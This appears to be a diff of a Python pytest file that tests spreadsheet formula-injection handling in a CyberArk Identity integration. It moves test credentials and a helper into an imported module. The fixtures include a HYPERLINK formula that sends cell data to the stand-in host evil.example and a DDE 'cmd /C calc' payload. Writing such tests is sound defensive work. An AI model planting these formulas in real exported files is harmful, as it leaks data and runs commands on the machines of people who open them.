@@ -16,16 +16,12 @@ import stat
 import zipfile
 
 import pytest
+from identity_it import SERVICE_ENV, play_vars  # pylint: disable=import-error
 
-SERVICE_ENV = {"CYBERARK_IDENTITY_CLIENT_ID": "ansible-svc@acme.com", "CYBERARK_IDENTITY_CLIENT_SECRET": "Svc-S3cret-Value!"}
 SUFFIX = "inert.acme.com"
 HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"x")'
 DISPLAY_NAMES = [HYPERLINK, "@SUM(1+1)", "-2+3", "+cmd|' /C calc'!A0", "'=quoted already", "Plain Name"]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def play_vars(sim, **extra):
-    return dict(identity_tenant_url=sim.legacy["system_url"], identity_ca_path=sim.ca_path, **extra)
 
 
 @pytest.fixture
